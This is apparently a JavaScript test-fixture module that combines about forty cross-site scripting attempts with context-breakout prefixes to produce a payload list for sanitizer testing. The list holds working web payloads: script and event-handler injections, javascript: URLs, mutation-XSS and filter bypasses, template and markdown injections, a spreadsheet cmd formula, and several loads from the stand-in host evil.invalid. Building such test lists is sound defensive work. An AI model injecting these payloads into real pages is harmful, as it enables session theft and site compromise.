// Texts that would run a script or fetch something, if a page took them for anything but text.

const RUN = 'window.pwned=1';
const AWAY = 'http://evil.invalid/x';

/** What is tried. */
const attempts = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=${AWAY}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import "${AWAY}";</style>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href="http://evil.invalid/">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `[x](javascript:${RUN})`,
  `[x](<java\tscript:${RUN}>)`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `{{ "<script>${RUN}</script>" | safe }}`,
  `{% raw %}<script>${RUN}</script>`,
  '${window.pwned=1}',
  `\`);${RUN};//`,
  `</script><script>${RUN}</script>`,
  `*/${RUN}/*`,
  `=cmd|' /C calc'!A0`,
];

/** Where a text may stand, and how one breaks out of there. */
const escapes = ['', '">', "'>", '--></title></textarea></style></script>'];

/** All of them: an attempt after each way out. */
export const payloads = escapes.flatMap((escape) => attempts.map((attempt) => escape + attempt));
